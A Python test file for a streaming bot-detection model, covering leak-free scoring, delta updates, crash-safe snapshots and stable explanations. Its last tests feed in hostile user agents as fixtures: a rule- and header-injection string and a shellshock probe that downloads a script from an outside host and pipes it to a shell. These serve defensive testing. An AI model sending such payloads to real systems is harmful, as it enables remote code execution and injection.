"""StreamLearner: no look-ahead, scorer deltas at an interval, atomic snapshots that survive a crash."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from botguard.config import ModelSettings
from botguard.model.stream import StreamLearner
from tests.model.streamkit import (
    CHROME,
    GOOGLEBOT,
    NOVA,
    ROBOTS,
    frame,
    human_session,
    learner,
    req,
    settings,
)

ROOT = Path(__file__).resolve().parents[2]


def _mixed(n_rounds: int = 12, start: float = 0.0) -> list[dict[str, Any]]:
    """Humans, verified Googlebot and a robots-ignoring bot family, interleaved in time order."""
    rows: list[dict[str, Any]] = []
    for r in range(n_rounds):
        t = start + r * 60
        rows += human_session(t, f"86.1.{r}.3", pages=3)
        rows += [req(t + k * 7, "66.249.66.1", GOOGLEBOT, f"/item/{r}{k}") for k in range(3)]
        rows += [
            req(t + k * 2, f"65.108.{12 + r % 3}.{r + 1}", NOVA, "/private/x" if k == 1 else f"/p/{r}/{k}")
            for k in range(6)
        ]
    rows.sort(key=lambda row: row["time"])
    return rows


def _feed(model: StreamLearner, rows: list[dict[str, Any]], chunk: int = 50) -> np.ndarray:
    return np.concatenate(
        [model.observe(frame(rows[i : i + chunk])).to_numpy() for i in range(0, len(rows), chunk)]
    )


# -- no look-ahead -------------------------------------------------------------------------------


def test_scores_never_depend_on_later_requests() -> None:
    """Prefix invariance: a request's score is the same whether or not the stream goes on after it.

    Features (actor windows), labels and deltas may only use requests up to the scored one, so
    feeding a prefix of the stream must reproduce the full run's scores for that prefix exactly.
    """
    rows = _mixed()
    full = _feed(learner(delta_interval=10.0), rows)
    cut = len(rows) * 2 // 3
    prefix = _feed(learner(delta_interval=10.0), rows[:cut])
    assert full.std() > 0.05  # the model did learn something: scores are not all equal
    np.testing.assert_array_equal(prefix, full[:cut])


def test_label_trains_only_events_scored_before_it_within_the_join_window() -> None:
    """An actor's label decided at t trains its buffered events (all scored before t) in t's batch
    (learned once the stream moves past it); events older than the join window were only scored;
    none is trained before the label exists."""
    model = learner(join_window=25.0, batch_seconds=5.0)
    seen: list[tuple[list[float], list[str]]] = []
    model.train_hook = lambda times, ys, sources, xs: seen.append((times, sources))
    ip = "65.108.12.50"
    before = [req(t, ip, NOVA, f"/item/{t}") for t in (0, 10, 20, 30)]
    for row in before:  # one observe per request: each in its own batch
        model.observe(frame([row]))
    assert seen == []  # unlabelled: scored only
    model.observe(frame([req(40, ip, NOVA, "/private/1")]))  # the violation decides the label at t=40
    assert seen == []  # t=40's micro-batch is still open
    model.observe(frame([req(50, "203.0.113.1", CHROME, "/")]))  # the stream moves past it
    ((times, sources),) = seen
    t0 = before[0]["time"]
    assert [round(t - t0) for t in times] == [20, 30, 40]  # 0 and 10 fell out of the 25 s join window
    assert set(sources) == {"robots"}
    assert model.counters.expired_unlabelled == 2


def test_stream_features_equal_the_feature_extractor() -> None:
    """The stream's memoised per-part features are exactly ``featurize`` of the request and its
    actor's behaviour so far (honeypot paths left out), for every request of a mixed stream."""
    from botguard.model._keys import event
    from botguard.model.features import PATH_SLOTS

    model = learner()
    checked = []
    original = model._features

    def features(call, kind, aid, behaviour):  # type: ignore[no-untyped-def]
        parts = original(call, kind, aid, behaviour)
        for i in range(call.n):
            got = [k for part in parts.of(i) for k in part]
            honeypot = call.target[i] is not None and call.target[i].startswith("/trap/")
            uinfo, iinfo = call.ua_infos[call.ua_of[i]], call.ip_infos[call.ip_of[i]]
            want = model.features.featurize(
                event(call, i, behaviour, uinfo, iinfo), masked=PATH_SLOTS if honeypot else frozenset()
            )
            assert dict.fromkeys(got, 1.0) == want and len(got) == len(want)
            checked.append(honeypot)
        return parts

    model._features = features  # type: ignore[method-assign]
    rows = _mixed(6) + [req(400, "65.108.12.3", NOVA, "/trap/a"), req(401, "2a01:cb00::5", CHROME, "/a?b=1")]
    rows += [
        req(402, "65.108.12.3", NOVA, "/x", method="FOO"),
        req(403, "65.108.12.3", NOVA, None, valid=False),
    ]
    _feed(model, rows)
    assert len(checked) == len(rows) and any(checked)


# -- micro-batches ---------------------------------------------------------------------------


@pytest.mark.parametrize("span", [10.0, 60.0])
def test_micro_batches_span_the_configured_stream_seconds(span: float) -> None:
    """`model.micro_batch_seconds` is the micro-batch: the stream is trained once per slot of that
    many stream seconds (the request that closes a batch's labels lies in its slot)."""
    config = replace(settings(), model=ModelSettings(micro_batch_seconds=span))
    model = learner(config)
    trained: list[int] = []
    model.train_hook = lambda times, ys, sources, xs: trained.append(int(max(times) // span))
    rows = _mixed(12)
    _feed(model, rows)
    model.flush()
    assert trained == sorted(set(trained))  # one batch per slot, in order
    assert 1 < len(trained) <= len({int(row["time"] // span) for row in rows})


# -- deltas ----------------------------------------------------------------------------------


def test_scorer_changes_only_when_the_delta_interval_passes() -> None:
    """The trainer learns every batch; the scorer stays as it was until `delta_interval` seconds of
    stream time have passed, then equals the trainer on every row the trainer touched."""
    model = learner(delta_interval=30.0, batch_seconds=5.0)
    probe = {"user_agent": NOVA, "ip": "65.108.12.1", "path": "/p/1"}
    rows = [req(t, f"65.108.12.{t + 1}", NOVA, "/private/x") for t in range(0, 25, 2)]
    model.observe(frame(rows))  # t = 0..24: the interval has not passed
    assert len(model.trainer.table) > 0
    assert len(model.scorer.table) == 0 and model.score(probe) == 0.5
    model.observe(frame([req(31, "65.108.12.99", NOVA, "/private/y")]))  # t = 31 >= 0 + 30
    assert model.counters.deltas == 1
    trainer, scorer = model.trainer.table, model.scorer.table
    assert set(scorer.index) == set(trainer.index)
    for key, row in trainer.index.items():
        assert scorer.w[scorer.index[key]] == trainer.w[row], key
    assert model.score(probe) > 0.5


# -- snapshots -------------------------------------------------------------------------------


def _state(model: StreamLearner, rows: list[dict[str, Any]]) -> tuple[np.ndarray, list[Any]]:
    """What must survive a snapshot: the next batch's scores and the candidates."""
    return _feed(model, rows), model.candidates()


def test_snapshot_round_trip_gives_the_same_learner(tmp_path: Path) -> None:
    """Restore, then feed the same requests to both: identical scores, counters and candidates."""
    rows = _mixed(12)
    later = _mixed(6, start=12 * 60)
    model = learner()
    _feed(model, rows)
    model.snapshot(tmp_path / "snap")
    restored = StreamLearner.restore(tmp_path / "snap", settings(), robots=lambda host: ROBOTS)
    assert restored.counters == model.counters
    assert restored.trainer.table.sketch.counts.sum() == model.trainer.table.sketch.counts.sum()
    assert set(restored.actors) == set(model.actors)
    a_scores, a_cands = _state(model, later)
    b_scores, b_cands = _state(restored, later)
    np.testing.assert_allclose(a_scores, b_scores, rtol=0, atol=1e-12)
    assert a_cands == b_cands


def test_snapshot_replaces_the_previous_one(tmp_path: Path) -> None:
    """A second snapshot replaces the first and leaves no temporary or old directory behind."""
    model = learner()
    _feed(model, _mixed(3))
    model.snapshot(tmp_path / "snap")
    _feed(model, _mixed(3, start=200))
    model.snapshot(tmp_path / "snap")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["snap"]
    assert not model.snapshot_due()
    restored = StreamLearner.restore(tmp_path / "snap", settings(), robots=lambda host: ROBOTS)
    assert restored.counters.events == model.counters.events


_CRASH = textwrap.dedent("""
    import os, sys
    sys.path.insert(0, {root!r})
    from tests.model.streamkit import ROBOTS, frame, settings
    from tests.model.test_model_stream import _mixed, _feed
    from botguard.model.stream import StreamLearner
    import botguard.model.snapshot as snapshot

    model = StreamLearner.restore({snap!r}, settings(), robots=lambda host: ROBOTS)
    _feed(model, _mixed(4, start=3000))
    calls = []
    real = os.replace
    def crashing(src, dst):
        calls.append((src, dst))
        if len(calls) == {crash_at}:
            os._exit(9)  # the power goes out: no cleanup, no exception handlers
        real(src, dst)
    snapshot.os.replace = crashing
    model.snapshot({snap!r})
""")


@pytest.mark.parametrize("crash_at", [1, 2], ids=["before-old-moved-aside", "before-new-renamed-in"])
def test_restore_after_a_crash_in_the_middle_of_a_snapshot(tmp_path: Path, crash_at: int) -> None:
    """Kill the process between writing the new snapshot and renaming it into place: restore still
    finds the previous complete snapshot, byte for byte the learner that wrote it."""
    snap = tmp_path / "snap"
    model = learner()
    _feed(model, _mixed(8))
    model.snapshot(snap)
    script = _CRASH.format(root=str(ROOT), snap=str(snap), crash_at=crash_at)
    done = subprocess.run(
        [sys.executable, "-c", script], check=False, cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 9, done.stderr
    assert any(
        p.name.endswith(".tmp") for p in tmp_path.iterdir()
    )  # the new snapshot was written, not renamed
    restored = StreamLearner.restore(snap, settings(), robots=lambda host: ROBOTS)
    assert restored.counters == model.counters
    later = _mixed(3, start=5000)
    np.testing.assert_allclose(_feed(restored, later), _feed(model, later), rtol=0, atol=1e-12)
    restored.snapshot(snap)  # the next snapshot clears what the crash left
    assert sorted(p.name for p in tmp_path.iterdir()) == ["snap"]


def test_restore_without_a_snapshot_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        StreamLearner.restore(tmp_path / "none", settings(), robots=lambda host: ROBOTS)


# -- explanations --------------------------------------------------------------------------


def test_explain_names_the_features_behind_a_score() -> None:
    """After learning the family, its top contributions include its UA token, and they sum to the logit."""
    model = learner(delta_interval=5.0)
    _feed(model, _mixed(12))
    event = {"user_agent": NOVA, "ip": "65.108.12.77", "path": "/p/9"}
    top = model.explain(event, top=50)
    assert any(k.startswith(("ua_tok=novascrape", "ua_fam=novascrape")) and v > 0 for k, v in top)
    logit = sum(v for _, v in top)
    assert model.score(event) == pytest.approx(1 / (1 + np.exp(-logit)))
    assert model.score({"user_agent": CHROME, "ip": "86.1.1.3", "path": "/products/1"}) < model.score(event)


_EXPLAIN = textwrap.dedent("""
    import json, sys
    sys.path.insert(0, {root!r})
    from tests.model.streamkit import NOVA, learner
    from tests.model.test_model_stream import _feed, _mixed

    model = learner(delta_interval=5.0)
    _feed(model, _mixed(40))
    event = {{"user_agent": NOVA, "ip": "65.108.12.77", "path": "/p/9"}}
    candidates = [[c.signature, c.explanation] for c in model.candidates()]
    print(json.dumps([model.explain(event, top=50), candidates]))
""")


def test_explanations_do_not_depend_on_hash_order() -> None:
    """The same stream under two string-hash seeds gives the same explanations, for one event and
    for every rule candidate, in the same order: features with equal contributions are ordered by
    name, never by set or hash order, so a reviewer sees the same reasons on every run."""
    script = _EXPLAIN.format(root=str(ROOT))
    outputs = []
    for seed in ("1", "2"):
        done = subprocess.run(
            [sys.executable, "-c", script], check=False, cwd=ROOT, capture_output=True, text=True,
            timeout=120, env={**os.environ, "PYTHONHASHSEED": seed},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        outputs.append(json.loads(done.stdout))
    (explained, candidates), other = outputs
    assert len(explained) > 5 and candidates  # something to order, ties included
    assert len({value for _, value in explained}) < len(explained)
    assert outputs[0] == other


# -- hostile and odd input -------------------------------------------------------------------


def test_odd_requests_are_scored_and_hostile_agents_give_plain_tokens() -> None:
    """Non-HTTP lines, empty agents and IPv6 are scored like the rest; a UA written to inject into
    a rule yields only plain lower-case product names as UA candidates (renderers escape them anyway)."""
    evil = 'EvilBot/2.0"; return 403; # {{ $x }}\r\nX-Injected: 1/1.0'
    rows = [
        req(0, "45.148.10.9", "", None, method=None, status=400, valid=False),
        req(1, "2a01:cb00::5", CHROME, "/a?b=1"),
        req(2, "203.0.113.4", "", "/"),
    ]
    rows += [
        req(3 + i, f"65.108.{12 + i % 4}.{i % 50 + 1}", evil, "/trap/t" if i % 3 == 0 else f"/p/{i}")
        for i in range(600)
    ]
    model = learner(delta_interval=2.0)
    scores = _feed(model, rows, chunk=100)
    assert len(scores) == len(rows) and np.isfinite(scores).all()
    cands = [c for c in model.candidates() if c.match_kind == "ua_pattern"]
    assert cands, [c.signature for c in model.candidates()]
    for cand in cands:
        assert cand.match_value.isascii() and cand.match_value in evil.lower()
        assert all(ch.isalnum() or ch in "._-" for ch in cand.match_value), cand.match_value


def test_the_model_proposes_one_product_name_per_agent() -> None:
    """Three robots-ignoring families on hosting /24s: a named one with a URL and a contact
    address, a scanner's prose agent, a shellshock probe as nginx logs it. The model proposes one
    UA candidate per agent, a product name: never a word of the prose, a version or a log escape."""
    named = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot; ops@nova.example)"
    prose = ("Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times "
             "per day v1.1.0. Opt out: scaninfo@paloaltonetworks.com")  # fmt: skip
    probe = r"() { :; }; /bin/bash -c \x22wget http://198.51.100.7/x.sh -O- | sh\x22"
    agents = (named, prose, probe)
    rows = [
        req(
            i,
            f"65.108.{12 + i % 5}.{i % 40 + 1}",
            agents[i % 3],
            "/trap/t" if i % 3 == 0 else f"/private/{i}",
        )
        for i in range(3000)
    ]
    model = learner(delta_interval=2.0)
    _feed(model, rows, chunk=100)
    ua = sorted(c.match_value for c in model.candidates() if c.match_kind == "ua_pattern")
    assert ua == ["novascrape.example", "paloaltonetworks.com"], [c.signature for c in model.candidates()]
